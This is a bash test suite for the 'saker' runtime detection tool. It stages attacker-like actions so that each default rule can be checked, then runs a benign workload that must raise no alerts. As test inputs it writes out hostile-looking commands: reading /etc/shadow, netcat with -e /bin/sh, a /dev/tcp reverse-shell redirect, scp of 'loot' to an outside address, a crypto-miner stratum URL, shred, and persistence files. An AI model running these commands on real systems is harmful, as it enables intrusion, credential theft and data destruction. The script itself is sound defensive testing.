#!/usr/bin/env bash
# The live detection suite: saker watches this machine with its default
# ruleset while the suite performs, for real and harmlessly, the behaviour
# each rule is about (files in unique temporary names, programs named after
# attacker tools that are copies of /bin/true, a fake container made of a
# cgroup shaped like docker's, private mount namespaces); then every rule
# must have fired with the fields the action determines. A second run does
# ordinary work (a C build, package queries, git, a service restarted, an
# admin session) and must raise no alert. Needs root (exit 77: skipped).
#
# usage: test_detect.sh BUILD_DIR [CAPTURE_OUT]
#   CAPTURE_OUT: keep the capture saker wrote during the detection run
set -u
# a clean environment: the actions' processes and the capture carry nothing
# of the caller's
if [ -z "${SAKER_DETECT_CLEAN:-}" ]; then
	exec env -i SAKER_DETECT_CLEAN=1 PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
		HOME=/root LANG=C.UTF-8 bash "$0" "$@"
fi
# recording the capture that ships with saker: the suite alone, in root
# cgroups and a pid namespace of its own, so that nothing of the machine it
# was recorded on is in it
if [ -n "${2:-}" ] && [ -z "${SAKER_DETECT_NS:-}" ]; then
	for h in /sys/fs/cgroup/*/ /sys/fs/cgroup/; do
		[ -w "${h}cgroup.procs" ] && echo $$ >"${h}cgroup.procs" 2>/dev/null
	done
	exec env SAKER_DETECT_NS=1 unshare --pid --fork --mount-proc bash "$0" "$@"
fi
B=$(cd "${1:?usage: test_detect.sh BUILD_DIR [CAPTURE_OUT]}" && pwd)
KEEP=${2:-}
HERE=$(cd "$(dirname "$0")" && pwd)
RULES=$HERE/../../rules/saker_rules.yaml
SAKER=$B/saker
HELPER=$B/tests/saker_detect_helper
if [ "$(id -u)" -ne 0 ]; then
	echo "skipped: the live detection suite needs root"
	exit 77
fi

W=$(mktemp -d /tmp/saker-detect.XXXXXX)
M=$(basename "$W")		# the marker the alerts must carry
CID=$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n' | cut -c1-64)
if [ -d /sys/fs/cgroup/pids ]; then	# cgroup v1: one hierarchy is enough
	CG=/sys/fs/cgroup/pids/docker/$CID
else					# cgroup v2
	CG=/sys/fs/cgroup/docker/$CID
fi
BENIGN=""
SAKER_PID=""
USER_MADE=""
EXP=$W/expect.tsv
: >"$EXP"

cleanup() {
	[ -n "$SAKER_PID" ] && kill -KILL "$SAKER_PID" 2>/dev/null
	[ -n "$USER_MADE" ] && id "$USER_MADE" >/dev/null 2>&1 && userdel "$USER_MADE"
	rm -f "/usr/local/bin/$M" "/etc/$M.conf" "/root/$M" "/boot/$M" "/var/lib/dpkg/$M" \
		"/var/log/$M.log" "/etc/cron.d/$M" "/etc/systemd/system/$M.service" "/dev/shm/$M"
	[ -n "${MADE_CRON_DIR:-}" ] && rmdir /etc/cron.d 2>/dev/null
	[ -n "${MADE_UNIT_DIR:-}" ] && rmdir /etc/systemd/system /etc/systemd 2>/dev/null
	[ -n "${MADE_BOOT:-}" ] && rmdir /boot 2>/dev/null
	[ -d "$CG" ] && rmdir "$CG" 2>/dev/null
	[ -n "${MADE_CG_PARENT:-}" ] && rmdir "$(dirname "$CG")" 2>/dev/null
	rm -rf "$W" ${BENIGN:+"$BENIGN"}
}
trap cleanup EXIT

# expect RULE STRING...: RULE's alert must contain every STRING
expect() {
	local line=$1
	shift
	for s in "$@"; do line+=$'\t'$s; done
	printf '%s\n' "$line" >>"$EXP"
}

# start_saker OUT: saker live with the default ruleset, JSON alerts in OUT
start_saker() {
	"$SAKER" -U -o json_output=true -o json_include_output_property=true -o rule_matching=all \
		-o capture_environment=false \
		${CAPTURE:+-w "$CAPTURE"} >"$1" 2>"$1.err" &
	SAKER_PID=$!
	for _ in $(seq 300); do
		grep -q "watching this machine" "$1.err" && return 0
		kill -0 "$SAKER_PID" 2>/dev/null || break
		sleep 0.1
	done
	echo "saker did not start:"
	cat "$1.err"
	exit 1
}

stop_saker() {
	sleep 0.5
	kill -INT "$SAKER_PID"
	wait "$SAKER_PID"
	local rc=$?
	SAKER_PID=""
	if [ $rc -ne 0 ]; then
		echo "saker exited with $rc:"
		cat "$1.err"
		exit 1
	fi
}

# in_container CMD...: runs CMD in a cgroup named like a docker container's
in_container() {
	sh -c 'echo $$ > "$1/cgroup.procs" && shift && exec "$@"' in_container "$CG" "$@"
}

[ -d "$(dirname "$CG")" ] || MADE_CG_PARENT=1
mkdir -p "$W/bin" "$W/home/.ssh" "$W/home/.aws" "$W/ovl/lower" "$W/ovl/upper" "$W/ovl/work" \
	"$W/ovl/merged" "$W/mnt" "$W/cg" "$CG"
for tool in nmap nc scp xmrig debugfs; do cp /bin/true "$W/bin/$tool"; done
cp "$HELPER" "$W/bin/agetty"
PORT=$((20000 + RANDOM % 20000))

[ -d /boot ] || { mkdir /boot && MADE_BOOT=1; }
[ -d /etc/cron.d ] || { mkdir -p /etc/cron.d && MADE_CRON_DIR=1; }
[ -d /etc/systemd/system ] || { mkdir -p /etc/systemd/system && MADE_UNIT_DIR=1; }
mkdir -p /var/lib/dpkg
USER_MADE=sk$((100000 + RANDOM))

CAPTURE=$W/live.scap.gz
start_saker "$W/alerts.json"

# the actions run in a process that starts after saker watches, so each one
# is seen from its beginning (in the capture too)
(

# ---- writes to places that hold the system
echo x >"/usr/local/bin/$M" && rm -f "/usr/local/bin/$M"
expect "Binary directory written" "file=/usr/local/bin/$M"
echo x >"/etc/$M.conf" && rm -f "/etc/$M.conf"
expect "System configuration written below etc" "file=/etc/$M.conf"
echo x >"/root/$M" && rm -f "/root/$M"
expect "Root home directory written" "file=/root/$M"
echo x >"/boot/$M" && rm -f "/boot/$M"
expect "Boot directory written" "file=/boot/$M"
echo x >"/var/lib/dpkg/$M" && rm -f "/var/lib/dpkg/$M"
expect "Package database changed outside the package manager" "file=/var/lib/dpkg/$M"

# ---- credentials
cat /etc/shadow "$W/none" >/dev/null 2>&1
expect "Password or sudoers file read" "file=/etc/shadow" "cmdline=cat /etc/shadow $W/none"
echo "not a key" >"$W/home/.ssh/id_rsa"
cat "$W/home/.ssh/id_rsa" >/dev/null
expect "SSH private key read" "file=$W/home/.ssh/id_rsa" "process=cat"
echo "[default]" >"$W/home/.aws/credentials"
cat "$W/home/.aws/credentials" >/dev/null
expect "Cloud credentials read" "file=$W/home/.aws/credentials"
find "$W" -name id_rsa >/dev/null
expect "Search for private keys or passwords" "command=find $W -name id_rsa"

# ---- shells
cp /bin/bash "$W/bin/nginx"
"$W/bin/nginx" -c "sh -c ': $M-web'; true"
expect "Shell spawned by a service" "parent=nginx" "cmdline=sh -c : $M-web"
in_container script -qc "bash -c ': $M-tty'" /dev/null >/dev/null
expect "Interactive shell in a container" "cmdline=bash -c : $M-tty" "container=${CID:0:12}"

# ---- privilege escalation
cp /bin/true "$W/suid" && chmod u+s "$W/suid"
expect "Setuid or setgid bit set" "file=$W/suid" "S_ISUID"
# in a session of user 1000 (the login uid a login would have set)
bash -c 'echo 1000 >/proc/self/loginuid && exec "$0" setuid0 "$1"' "$HELPER" "$M-setuid"
expect "Process became root outside the identity tools" "cmdline=saker_detect_he setuid0 $M-setuid" \
	"loginuid=1000"
"$HELPER" capset-admin 65534 "$M-caps"
expect "Non-root process gained administrator capabilities" "CAP_SYS_ADMIN" "uid=65534" "$M-caps"
"$HELPER" unshare-uts "$M-ns"
expect "Namespace changed by an unexpected program" "syscall=unshare" "$M-ns"

# ---- code from where it should not run
"$HELPER" memfd-exec "$M-memfd"
expect "Program run from memory" "exe=/memfd:payload (deleted)" "$M-memfd"
cp /bin/true "/dev/shm/$M" && "/dev/shm/$M" && rm -f "/dev/shm/$M"
expect "Program run from shared memory" "exe=/dev/shm/$M"
cp /bin/true "$W/fresh" && "$W/fresh" "$M-fresh"
expect "Freshly written program run from a scratch directory" "exe=$W/fresh" "$M-fresh"
unshare -m sh -c "mount -t overlay overlay -o lowerdir=$W/ovl/lower,upperdir=$W/ovl/upper,workdir=$W/ovl/work $W/ovl/merged && cp /bin/true $W/ovl/merged/drift && $W/ovl/merged/drift $M-drift"
expect "Program run from a container's upper layer" "exe=$W/ovl/merged/drift" "$M-drift"

# ---- debugging and injection
"$HELPER" ptrace-poke "$M-poke"
expect "Ptrace used to write into another process" "request=PTRACE_POKEDATA" "$M-poke"
expect "Ptrace attach by an unexpected program" "request=PTRACE_ATTACH" "$M-poke"
"$HELPER" traceme "$M-traceme"
expect "Program blocked debugging of itself" "$M-traceme"

# ---- tracks
echo x >"/var/log/$M.log" && : >"/var/log/$M.log" && rm -f "/var/log/$M.log"
expect "Log file cleared" "file=/var/log/$M.log"
echo "ls" >"$W/home/.bash_history" && : >"$W/home/.bash_history"
expect "Shell history erased" "file=$W/home/.bash_history"

# ---- network
"$W/bin/nmap" -sS 127.0.0.1 "$M-scan"
expect "Network scanner started" "cmdline=nmap -sS 127.0.0.1 $M-scan"
"$W/bin/nc" -e /bin/sh 127.0.0.1 4444 "$M-nc"
expect "Netcat started with command execution" "cmdline=nc -e /bin/sh 127.0.0.1 4444 $M-nc"
"$HELPER" listen "$PORT" 3 &
LISTENER=$!
sleep 0.3
bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; exec 0<&3; : $M-revshell"
expect "Shell input or output redirected to a network connection" "connection=127.0.0.1:" \
	"->127.0.0.1:$PORT" "$M-revshell"
kill "$LISTENER" 2>/dev/null
wait "$LISTENER" 2>/dev/null
"$W/bin/scp" "$M-loot" "user@198.51.100.7:/tmp"
expect "Remote copy tool started" "cmdline=scp $M-loot"
"$W/bin/xmrig" -o stratum+tcp://127.0.0.1:3333 "$M-miner"
expect "Crypto miner activity" "stratum+tcp://127.0.0.1:3333 $M-miner"
"$W/bin/agetty" connect-udp 192.0.2.10 53 "$M-sysnet"
expect "System program made an outbound connection" "process=agetty" "192.0.2.10:53" "$M-sysnet"

# ---- kernel
echo "not a module" >"$W/notamodule.ko"
"$HELPER" finit-module "$W/notamodule.ko" "$M-module"
expect "Kernel module loaded" "syscall=finit_module" "$M-module"
"$HELPER" bpf-load "$M-bpf"
expect "BPF program loaded by an unexpected program" "$M-bpf"

# ---- container escapes
echo 1 >"$W/cg/release_agent"
expect "Cgroup release agent written" "file=$W/cg/release_agent"
in_container unshare -m sh -c "mount -t tmpfs $M-tmpfs $W/mnt"
expect "File system mounted inside a container" "source=$M-tmpfs" "container=${CID:0:12}"
in_container "$W/bin/debugfs" -w /dev/null "$M-debugfs"
expect "Debugfs started inside a container" "$M-debugfs" "container=${CID:0:12}"

# ---- persistence
echo "# $M" >"/etc/cron.d/$M" && rm -f "/etc/cron.d/$M"
expect "Scheduled task file written" "file=/etc/cron.d/$M"
echo "[Unit]" >"/etc/systemd/system/$M.service" && rm -f "/etc/systemd/system/$M.service"
expect "Service unit written" "file=/etc/systemd/system/$M.service"
useradd -M -N -s /usr/sbin/nologin "$USER_MADE" && userdel "$USER_MADE"
expect "User account tool run" "cmdline=useradd -M -N -s /usr/sbin/nologin sk"

# ---- impact
echo "data" >"$W/victim-$M" && shred -u "$W/victim-$M"
expect "Bulk data destruction tool run" "cmdline=shred -u $W/victim-$M"
)

stop_saker "$W/alerts.json"
echo "== detections ($(wc -l <"$W/alerts.json") alerts)"
python3 "$HERE/check_alerts.py" "$EXP" "$W/alerts.json" --rules "$RULES"
detect_rc=$?
[ -n "$KEEP" ] && cp "$CAPTURE" "$KEEP"

# ---- ordinary work raises nothing
BENIGN=$(mktemp -d /var/lib/saker-benign.XXXXXX)
CAPTURE=""
start_saker "$W/benign.json"
(
	cd "$BENIGN" || exit 1
	printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' >hello.c
	printf 'hello: hello.c\n\t$(CC) -O2 -o $@ $<\n' >Makefile
	make -s >/dev/null && ./hello >/dev/null
	dpkg -l >/dev/null 2>&1
	dpkg -S /bin/ls >/dev/null 2>&1
	apt-cache policy bash >/dev/null 2>&1
	git init -q repo && cd repo &&
		cp ../hello.c . && git add hello.c &&
		git -c user.name=admin -c user.email=admin@example.invalid commit -qm "first" &&
		git log --oneline >/dev/null && git status --short >/dev/null &&
		git checkout -qb work && git diff HEAD~0 >/dev/null
	cd "$BENIGN" || exit 1
	for _ in 1 2 3; do	# a service restarted a few times, as cron or an admin would
		python3 -m http.server 0 --bind 127.0.0.1 >/dev/null 2>&1 &
		svc=$!
		sleep 0.5
		kill "$svc"
		wait "$svc" 2>/dev/null
	done
	script -qc "bash -c 'id; uptime; df -h; ps aux; ls -la /etc; cat /etc/os-release; free -m; env'" \
		/dev/null >/dev/null
) || echo "warning: the benign workload failed part-way"
stop_saker "$W/benign.json"
echo "== ordinary work"
python3 "$HERE/check_alerts.py" --none "$W/benign.json"
benign_rc=$?

[ $detect_rc -eq 0 ] && [ $benign_rc -eq 0 ]
